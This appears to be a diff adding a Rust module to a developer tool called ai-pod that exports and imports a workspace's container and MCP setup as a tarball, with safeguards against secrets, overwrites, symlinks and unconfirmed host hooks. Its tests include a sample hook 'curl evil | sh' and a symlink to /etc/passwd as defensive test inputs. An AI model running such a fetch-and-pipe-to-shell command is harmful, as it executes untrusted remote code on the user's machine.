@@ -0,0 +1,612 @@
+//! `ai-pod export-setup` / `ai-pod import-setup`: package a workspace's
+//! ai-pod setup into one `.tar.gz` so onboarding a teammate is a single
+//! command. A bundle holds:
+//!
+//! - `ai-pod.Dockerfile`, `ai-pod.lock` and `.devcontainer/devcontainer.json`
+//! - `project.json`: the project settings (`ai-pod config list --project`)
+//! - `config.json`: the team-relevant part of the global config (mounts,
+//!   caches, hardening, hooks, ...), not personal preferences like `notify`
+//! - `mcp.json`: the MCP servers from `~/.claude.json`, minus ai-pod's own
+//!
+//! Secrets never go in: the project's API key and the rest of `~/.claude.json`
+//! stay behind. Importing never overwrites: existing files and global keys
+//! are kept, list settings are merged and MCP servers are only added. Since a
+//! bundle can approve commands and add mounts, the import shows what it will
+//! apply and asks first. Hooks run on the host, so they are confirmed on
+//! their own, even with `--yes`.
+
+use anyhow::{Context, Result};
+use colored::Colorize;
+use serde_json::{Map, Value};
+use std::path::Path;
+use std::process::Command;
+
+use crate::config::AppConfig;
+use crate::image::DOCKERFILE_NAME;
+use crate::provenance::LOCKFILE;
+use crate::server::lifecycle::{ProjectState, get_or_create_project_state, state_file_for};
+
+const DEVCONTAINER: &str = ".devcontainer/devcontainer.json";
+const BUNDLE_DEVCONTAINER: &str = "devcontainer.json";
+const MANIFEST: &str = "manifest.json";
+const PROJECT: &str = "project.json";
+const GLOBAL: &str = "config.json";
+const MCP: &str = "mcp.json";
+const FORMAT_VERSION: u64 = 1;
+
+/// Global config keys shared with the team; the rest are personal.
+const TEAM_KEYS: &[&str] = &["build", "caches", "hooks", "init", "mounts", "network", "security", "userns", "verify", "watch"];
+
+fn tar(args: &[&str]) -> Result<()> {
+    let out = Command::new("tar")
+        .args(args)
+        .output()
+        .context("Failed to run tar (is it installed?)")?;
+    if !out.status.success() {
+        anyhow::bail!("tar failed: {}", String::from_utf8_lossy(&out.stderr).trim());
+    }
+    Ok(())
+}
+
+fn write_json(path: &Path, value: &Value) -> Result<()> {
+    std::fs::write(path, serde_json::to_string_pretty(value)? + "\n")
+        .with_context(|| format!("Failed to write {}", path.display()))
+}
+
+fn read_json(path: &Path) -> Result<Option<Value>> {
+    match std::fs::read_to_string(path) {
+        Ok(raw) => serde_json::from_str(&raw)
+            .map(Some)
+            .with_context(|| format!("{} is not valid JSON", path.display())),
+        Err(_) => Ok(None),
+    }
+}
+
+/// The MCP servers configured in `~/.claude.json`, without ai-pod's entry
+/// (it carries this machine's API key and is recreated on every launch).
+fn mcp_servers(claude_json: &Value) -> Map<String, Value> {
+    let mut servers = claude_json
+        .get("mcpServers")
+        .and_then(Value::as_object)
+        .cloned()
+        .unwrap_or_default();
+    servers.remove("ai-pod");
+    servers
+}
+
+/// Copy the parts of `global` listed in [`TEAM_KEYS`].
+fn team_config(global: &Value) -> Map<String, Value> {
+    global
+        .as_object()
+        .map(|m| {
+            m.iter()
+                .filter(|(k, _)| TEAM_KEYS.contains(&k.as_str()))
+                .map(|(k, v)| (k.clone(), v.clone()))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// Write the setup of `workspace` to the bundle at `out`.
+pub fn export(config: &AppConfig, workspace: &Path, out: &Path) -> Result<()> {
+    let dockerfile = workspace.join(DOCKERFILE_NAME);
+    if !dockerfile.is_file() {
+        anyhow::bail!(
+            "No {} found in {}.\nRun `ai-pod init` to create one.",
+            DOCKERFILE_NAME,
+            workspace.display()
+        );
+    }
+    let staging = tempfile::TempDir::new().context("Failed to create a temporary directory")?;
+    let dir = staging.path();
+    let mut files = vec![DOCKERFILE_NAME];
+    std::fs::copy(&dockerfile, dir.join(DOCKERFILE_NAME)).context("Failed to copy ai-pod.Dockerfile")?;
+    if workspace.join(DEVCONTAINER).is_file() {
+        std::fs::copy(workspace.join(DEVCONTAINER), dir.join(BUNDLE_DEVCONTAINER))
+            .context("Failed to copy devcontainer.json")?;
+        files.push(BUNDLE_DEVCONTAINER);
+    }
+    if workspace.join(LOCKFILE).is_file() {
+        std::fs::copy(workspace.join(LOCKFILE), dir.join(LOCKFILE)).context("Failed to copy ai-pod.lock")?;
+        files.push(LOCKFILE);
+    }
+
+    let state = ProjectState::load(&state_file_for(config, workspace));
+    write_json(&dir.join(PROJECT), &crate::config_cli::project_view(&state)?)?;
+    files.push(PROJECT);
+
+    let global = crate::config_cli::read_global(config)?;
+    write_json(&dir.join(GLOBAL), &Value::Object(team_config(&global)))?;
+    files.push(GLOBAL);
+
+    let claude_json = read_json(&config.home_dir.join(".claude.json"))?.unwrap_or(Value::Null);
+    let servers = mcp_servers(&claude_json);
+    let server_count = servers.len();
+    write_json(&dir.join(MCP), &serde_json::json!({ "mcpServers": servers }))?;
+    files.push(MCP);
+
+    write_json(
+        &dir.join(MANIFEST),
+        &serde_json::json!({
+            "format": FORMAT_VERSION,
+            "ai_pod_version": env!("CARGO_PKG_VERSION"),
+            "files": files,
+        }),
+    )?;
+    files.insert(0, MANIFEST);
+
+    let out_str = out.to_string_lossy();
+    let dir_str = dir.to_string_lossy();
+    let mut args = vec!["-czf", &*out_str, "-C", &*dir_str];
+    args.extend(&files);
+    tar(&args)?;
+
+    println!("{} {}", "Created:".green().bold(), out.display());
+    println!(
+        "  Dockerfile{}, project settings, {} global setting(s), {} MCP server(s)",
+        if files.contains(&BUNDLE_DEVCONTAINER) { ", devcontainer.json" } else { "" },
+        team_config(&global).len(),
+        server_count
+    );
+    println!("  Import with: {}", format!("ai-pod import-setup {}", out.display()).bold());
+    Ok(())
+}
+
+/// Project settings from a bundle. Lists are merged into the workspace's
+/// own; nothing already there is removed.
+#[derive(serde::Deserialize, Default, Debug)]
+#[serde(default)]
+struct BundleProject {
+    allowed_commands: Vec<String>,
+    allowed_services: Vec<String>,
+    excluded_paths: Vec<String>,
+    ignored_credential_files: Vec<String>,
+    masked_directories: Vec<String>,
+    mounts: Vec<crate::config::MountSpec>,
+    relax_security: bool,
+}
+
+/// What an import adds, gathered before anything is written so it can be
+/// shown for confirmation.
+#[derive(Default)]
+struct Plan {
+    files: Vec<&'static str>,
+    project: ProjectState,
+    project_changes: Vec<String>,
+    global: Option<Value>,
+    global_added: Vec<String>,
+    global_kept: Vec<String>,
+    claude_json: Option<Value>,
+    mcp_added: Vec<String>,
+}
+
+impl Plan {
+    fn is_empty(&self) -> bool {
+        self.files.is_empty()
+            && self.project_changes.is_empty()
+            && self.global_added.is_empty()
+            && self.mcp_added.is_empty()
+    }
+}
+
+/// Merge the bundle's project settings into `state`, describing each addition.
+fn merge_project(state: &mut ProjectState, bundle: &BundleProject, home_dir: &Path) -> Result<Vec<String>> {
+    let mut changes = Vec::new();
+    let mut add = |kind: &str, list: &mut Vec<String>, items: &[String]| {
+        for item in items {
+            if !list.contains(item) {
+                list.push(item.clone());
+                changes.push(format!("{} {}", kind, item));
+            }
+        }
+    };
+    add("allow command", &mut state.allowed_commands, &bundle.allowed_commands);
+    add("allow service", &mut state.allowed_services, &bundle.allowed_services);
+    add("exclude", &mut state.excluded_paths, &bundle.excluded_paths);
+    add(
+        "ignore credential file",
+        &mut state.ignored_credential_files,
+        &bundle.ignored_credential_files,
+    );
+    add("mask", &mut state.masked_directories, &bundle.masked_directories);
+    for spec in &bundle.mounts {
+        crate::mount_cli::validate_spec(spec, home_dir)
+            .with_context(|| format!("Invalid mount '{}' in the bundle", spec.host))?;
+        if !state.mounts.contains(spec) {
+            state.mounts.push(spec.clone());
+            changes.push(format!("mount {}", spec.host));
+        }
+    }
+    for p in &state.excluded_paths {
+        crate::workspace::normalize_exclude_path(p).map_err(anyhow::Error::msg)?;
+    }
+    if bundle.relax_security && !state.relax_security {
+        state.relax_security = true;
+        changes.push("relax container hardening".to_string());
+    }
+    Ok(changes)
+}
+
+/// Add the bundle's global keys that `local` doesn't set. Returns the keys
+/// added and the ones kept because `local` already has them.
+fn merge_global(local: &mut Value, bundle: &Value) -> (Vec<String>, Vec<String>) {
+    let (mut added, mut kept) = (Vec::new(), Vec::new());
+    let Some(local) = local.as_object_mut() else {
+        return (added, kept);
+    };
+    for (key, value) in team_config(bundle) {
+        if local.contains_key(&key) {
+            kept.push(key);
+        } else {
+            local.insert(key.clone(), value);
+            added.push(key);
+        }
+    }
+    (added, kept)
+}
+
+/// Add the bundle's MCP servers missing from `claude_json`.
+fn merge_mcp(claude_json: &mut Value, bundle: &Value) -> Vec<String> {
+    let mut added = Vec::new();
+    if !claude_json.is_object() {
+        *claude_json = Value::Object(Map::new());
+    }
+    let root = claude_json.as_object_mut().expect("set to an object above");
+    let servers = root
+        .entry("mcpServers")
+        .or_insert_with(|| Value::Object(Map::new()));
+    let Some(servers) = servers.as_object_mut() else {
+        return added;
+    };
+    for (name, spec) in mcp_servers(bundle) {
+        if !servers.contains_key(&name) {
+            servers.insert(name.clone(), spec);
+            added.push(name);
+        }
+    }
+    added
+}
+
+/// Refuse bundles whose files are symlinks or anything but regular files:
+/// a symlinked `ai-pod.Dockerfile` would copy a host file, like an SSH key,
+/// into the workspace the agent sees.
+fn check_entries(dir: &Path) -> Result<()> {
+    for name in [MANIFEST, DOCKERFILE_NAME, LOCKFILE, BUNDLE_DEVCONTAINER, PROJECT, GLOBAL, MCP] {
+        if let Ok(meta) = std::fs::symlink_metadata(dir.join(name))
+            && !meta.file_type().is_file()
+        {
+            anyhow::bail!("{} in the bundle is not a regular file", name);
+        }
+    }
+    Ok(())
+}
+
+fn plan(config: &AppConfig, workspace: &Path, dir: &Path) -> Result<Plan> {
+    let mut plan = Plan::default();
+    if !workspace.join(DOCKERFILE_NAME).exists() && dir.join(DOCKERFILE_NAME).is_file() {
+        plan.files.push(DOCKERFILE_NAME);
+    }
+    if !workspace.join(LOCKFILE).exists() && dir.join(LOCKFILE).is_file() {
+        plan.files.push(LOCKFILE);
+    }
+    if !workspace.join(DEVCONTAINER).exists() && dir.join(BUNDLE_DEVCONTAINER).is_file() {
+        plan.files.push(DEVCONTAINER);
+    }
+
+    plan.project = get_or_create_project_state(config, workspace)?;
+    if let Some(value) = read_json(&dir.join(PROJECT))? {
+        let bundle: BundleProject =
+            serde_json::from_value(value).context("Invalid project.json in the bundle")?;
+        plan.project_changes = merge_project(&mut plan.project, &bundle, &config.home_dir)?;
+    }
+
+    if let Some(bundle) = read_json(&dir.join(GLOBAL))? {
+        let mut local = crate::config_cli::read_global(config)?;
+        let (added, kept) = merge_global(&mut local, &bundle);
+        if !added.is_empty() {
+            crate::config_cli::check_global(local.clone(), &config.home_dir)
+                .context("The bundle's global settings are invalid")?;
+            plan.global = Some(local);
+        }
+        (plan.global_added, plan.global_kept) = (added, kept);
+    }
+
+    if let Some(bundle) = read_json(&dir.join(MCP))? {
+        let mut claude_json = read_json(&config.home_dir.join(".claude.json"))?.unwrap_or(Value::Null);
+        plan.mcp_added = merge_mcp(&mut claude_json, &bundle);
+        if !plan.mcp_added.is_empty() {
+            plan.claude_json = Some(claude_json);
+        }
+    }
+    Ok(plan)
+}
+
+/// The global value the plan sets for `key`.
+fn planned_global<'a>(plan: &'a Plan, key: &str) -> Option<&'a Value> {
+    plan.global.as_ref()?.get(key)
+}
+
+/// The host commands in the plan's `hooks`, as `pre_launch: cmd` lines.
+fn hook_commands(plan: &Plan) -> Vec<String> {
+    let Some(hooks) = planned_global(plan, "hooks").and_then(Value::as_object) else {
+        return Vec::new();
+    };
+    hooks
+        .iter()
+        .flat_map(|(stage, cmds)| {
+            cmds.as_array()
+                .into_iter()
+                .flatten()
+                .map(move |cmd| format!("{}: {}", stage, cmd.as_str().map_or_else(|| cmd.to_string(), str::to_string)))
+        })
+        .collect()
+}
+
+fn print_plan(plan: &Plan) {
+    println!("{}", "This setup will:".blue().bold());
+    for file in &plan.files {
+        println!("  create {}", file);
+    }
+    for change in &plan.project_changes {
+        println!("  {}", change);
+    }
+    for key in &plan.global_added {
+        if key == "hooks" {
+            println!("  set global hooks (asked about separately)");
+        } else {
+            let value = planned_global(plan, key).map(Value::to_string).unwrap_or_default();
+            println!("  set global {} = {}", key, value);
+        }
+    }
+    for name in &plan.mcp_added {
+        println!("  add MCP server {}", name);
+    }
+}
+
+/// Ask separately about the bundle's hooks, which run on this machine at
+/// every launch; `--yes` doesn't cover them. Declined or unanswerable hooks
+/// are dropped from the plan.
+fn confirm_hooks(plan: &mut Plan) {
+    let commands = hook_commands(plan);
+    if commands.is_empty() {
+        return;
+    }
+    println!(
+        "{}",
+        "The bundle's hooks run these commands on this machine at every launch:".yellow().bold()
+    );
+    for cmd in &commands {
+        println!("  {}", cmd);
+    }
+    let ok = crate::is_stdin_tty()
+        && dialoguer::Confirm::new()
+            .with_prompt("Install these hooks?")
+            .default(false)
+            .interact()
+            .unwrap_or(false);
+    if ok {
+        return;
+    }
+    eprintln!("{} skipped the bundle's hooks", "Note:".yellow().bold());
+    drop_hooks(plan);
+}
+
+fn drop_hooks(plan: &mut Plan) {
+    plan.global_added.retain(|k| k != "hooks");
+    if plan.global_added.is_empty() {
+        plan.global = None;
+    } else if let Some(Value::Object(global)) = &mut plan.global {
+        global.remove("hooks");
+    }
+}
+
+/// Apply the bundle at `bundle` to `workspace`. `yes` skips the confirmation.
+pub fn import(config: &AppConfig, workspace: &Path, bundle: &Path, yes: bool) -> Result<()> {
+    let unpacked = tempfile::TempDir::new().context("Failed to create a temporary directory")?;
+    let dir = unpacked.path();
+    tar(&["-xzf", &bundle.to_string_lossy(), "-C", &dir.to_string_lossy()])
+        .with_context(|| format!("Failed to unpack {}", bundle.display()))?;
+    check_entries(dir)?;
+    let manifest = read_json(&dir.join(MANIFEST))?
+        .with_context(|| format!("{} is not an ai-pod setup bundle", bundle.display()))?;
+    let format = manifest.get("format").and_then(Value::as_u64).unwrap_or(0);
+    if format > FORMAT_VERSION {
+        anyhow::bail!(
+            "{} was created by a newer ai-pod ({}); update with `ai-pod update`",
+            bundle.display(),
+            manifest.get("ai_pod_version").and_then(Value::as_str).unwrap_or("unknown")
+        );
+    }
+
+    let mut plan = plan(config, workspace, dir)?;
+    for key in &plan.global_kept {
+        eprintln!(
+            "{} keeping your own global '{}' setting",
+            "Note:".yellow().bold(),
+            key
+        );
+    }
+    if plan.is_empty() {
+        println!("Nothing to import: this workspace already has the bundle's setup.");
+        return Ok(());
+    }
+    print_plan(&plan);
+    if !yes {
+        if !crate::is_stdin_tty() {
+            anyhow::bail!("Re-run with --yes to import without confirmation");
+        }
+        let ok = dialoguer::Confirm::new()
+            .with_prompt("Import this setup?")
+            .default(true)
+            .interact()
+            .unwrap_or(false);
+        if !ok {
+            eprintln!("{}", "Aborted.".red());
+            return Ok(());
+        }
+    }
+    confirm_hooks(&mut plan);
+
+    for file in &plan.files {
+        let (from, to) = match *file {
+            DEVCONTAINER => (dir.join(BUNDLE_DEVCONTAINER), workspace.join(DEVCONTAINER)),
+            _ => (dir.join(file), workspace.join(file)),
+        };
+        if let Some(parent) = to.parent() {
+            std::fs::create_dir_all(parent).with_context(|| format!("Failed to create {}", parent.display()))?;
+        }
+        std::fs::copy(&from, &to).with_context(|| format!("Failed to write {}", to.display()))?;
+        println!("{} {}", "Created:".green().bold(), to.display());
+    }
+    if !plan.project_changes.is_empty() {
+        plan.project.save(&state_file_for(config, workspace))?;
+    }
+    if let Some(global) = plan.global {
+        crate::config_cli::check_global(global, &config.home_dir)?.save(config)?;
+    }
+    if let Some(claude_json) = &plan.claude_json {
+        write_json(&config.home_dir.join(".claude.json"), claude_json)?;
+        eprintln!(
+            "{} MCP servers are copied into a workspace's home volume when it's created; run `ai-pod clean` first for an existing workspace",
+            "Note:".yellow().bold()
+        );
+    }
+    println!("{}", "Setup imported.".green().bold());
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::test_config;
+    use crate::config::GlobalConfig;
+    use serde_json::json;
+    use tempfile::TempDir;
+
+    #[test]
+    fn team_config_drops_personal_keys() {
+        let global = json!({"caches": ["npm"], "notify": {"command": ["x"]}, "editor": {}, "userns": "keep-id"});
+        let team = team_config(&global);
+        assert_eq!(team.keys().collect::<Vec<_>>(), vec!["caches", "userns"]);
+    }
+
+    #[test]
+    fn merge_global_never_overwrites() {
+        let mut local = json!({"caches": ["cargo"]});
+        let bundle = json!({"caches": ["npm"], "watch": {"globs": ["src/**"]}, "notify": {}});
+        let (added, kept) = merge_global(&mut local, &bundle);
+        assert_eq!(added, vec!["watch"]);
+        assert_eq!(kept, vec!["caches"]);
+        assert_eq!(local["caches"], json!(["cargo"]));
+        assert!(local.get("notify").is_none());
+    }
+
+    #[test]
+    fn merge_mcp_adds_missing_servers_only() {
+        let mut claude_json = json!({"oauthAccount": {}, "mcpServers": {"db": {"command": "mine"}}});
+        let bundle = json!({"mcpServers": {
+            "db": {"command": "theirs"},
+            "docs": {"command": "docs-mcp"},
+            "ai-pod": {"type": "http"}
+        }});
+        assert_eq!(merge_mcp(&mut claude_json, &bundle), vec!["docs"]);
+        assert_eq!(claude_json["mcpServers"]["db"]["command"], "mine");
+        assert!(claude_json["mcpServers"].get("ai-pod").is_none());
+        assert!(claude_json.get("oauthAccount").is_some());
+
+        let mut empty = Value::Null;
+        assert_eq!(merge_mcp(&mut empty, &bundle).len(), 2);
+    }
+
+    #[test]
+    fn merge_project_unions_and_validates() {
+        let dir = TempDir::new().unwrap();
+        let mut state = ProjectState::default();
+        state.add_allowed("make test");
+        let bundle: BundleProject = serde_json::from_value(json!({
+            "allowed_commands": ["make test", "npm ci"],
+            "excluded_paths": ["secrets"],
+            "relax_security": true
+        }))
+        .unwrap();
+        let changes = merge_project(&mut state, &bundle, dir.path()).unwrap();
+        assert_eq!(
+            changes,
+            vec!["allow command npm ci", "exclude secrets", "relax container hardening"]
+        );
+        assert_eq!(state.allowed_commands, vec!["make test", "npm ci"]);
+
+        let bad: BundleProject = serde_json::from_value(json!({"excluded_paths": ["../up"]})).unwrap();
+        assert!(merge_project(&mut ProjectState::default(), &bad, dir.path()).is_err());
+    }
+
+    #[test]
+    fn hooks_are_listed_and_can_be_dropped_from_the_plan() {
+        let mut plan = Plan {
+            global: Some(json!({"caches": ["npm"], "hooks": {"pre_launch": ["curl evil | sh"], "post_exit": ["make clean"]}})),
+            global_added: vec!["caches".into(), "hooks".into()],
+            ..Default::default()
+        };
+        assert_eq!(hook_commands(&plan), vec!["post_exit: make clean", "pre_launch: curl evil | sh"]);
+        drop_hooks(&mut plan);
+        assert_eq!(plan.global_added, vec!["caches"]);
+        assert_eq!(plan.global, Some(json!({"caches": ["npm"]})));
+        assert!(hook_commands(&plan).is_empty());
+    }
+
+    #[test]
+    fn bundles_with_symlinked_files_are_refused() {
+        let dir = TempDir::new().unwrap();
+        std::fs::write(dir.path().join(MANIFEST), "{}").unwrap();
+        check_entries(dir.path()).unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", dir.path().join(DOCKERFILE_NAME)).unwrap();
+        let err = check_entries(dir.path()).unwrap_err();
+        assert!(err.to_string().contains("not a regular file"), "{}", err);
+    }
+
+    #[test]
+    fn export_then_import_into_a_fresh_workspace() {
+        let dir = TempDir::new().unwrap();
+        let config = test_config(&dir);
+        let ws = dir.path().join("api");
+        std::fs::create_dir_all(ws.join(".devcontainer")).unwrap();
+        std::fs::write(ws.join(DOCKERFILE_NAME), "FROM node:22\n").unwrap();
+        std::fs::write(ws.join(DEVCONTAINER), "{}").unwrap();
+        std::fs::write(ws.join(LOCKFILE), r#"{"images": {"node:22": "sha256:aaa"}}"#).unwrap();
+        let mut state = get_or_create_project_state(&config, &ws).unwrap();
+        state.add_masked("node_modules");
+        state.save(&state_file_for(&config, &ws)).unwrap();
+        std::fs::write(
+            GlobalConfig::path(&config),
+            r#"{"caches": ["npm"], "notify": {"quiet_hours": "22:00-07:00"}}"#,
+        )
+        .unwrap();
+        std::fs::write(
+            dir.path().join(".claude.json"),
+            r#"{"mcpServers": {"docs": {"command": "docs-mcp"}, "ai-pod": {"headers": {"key": "secret"}}}}"#,
+        )
+        .unwrap();
+
+        let bundle = dir.path().join("setup.tar.gz");
+        export(&config, &ws, &bundle).unwrap();
+
+        // A teammate's machine: a clone without ai-pod files and no config.
+        let other = TempDir::new().unwrap();
+        let other_config = test_config(&other);
+        let clone = other.path().join("api");
+        std::fs::create_dir_all(&clone).unwrap();
+        import(&other_config, &clone, &bundle, true).unwrap();
+
+        assert_eq!(std::fs::read_to_string(clone.join(DOCKERFILE_NAME)).unwrap(), "FROM node:22\n");
+        assert!(clone.join(DEVCONTAINER).is_file());
+        assert!(clone.join(LOCKFILE).is_file());
+        let imported = ProjectState::load(&state_file_for(&other_config, &clone));
+        assert_eq!(imported.masked_directories, vec!["node_modules"]);
+        assert_ne!(imported.api_key, state.api_key);
+        let global = GlobalConfig::load(&other_config);
+        assert_eq!(global.caches, vec!["npm"]);
+        assert!(global.notify.quiet_hours.is_none());
+        let claude_json = read_json(&other.path().join(".claude.json")).unwrap().unwrap();
+        assert_eq!(claude_json["mcpServers"], json!({"docs": {"command": "docs-mcp"}}));
+    }
+}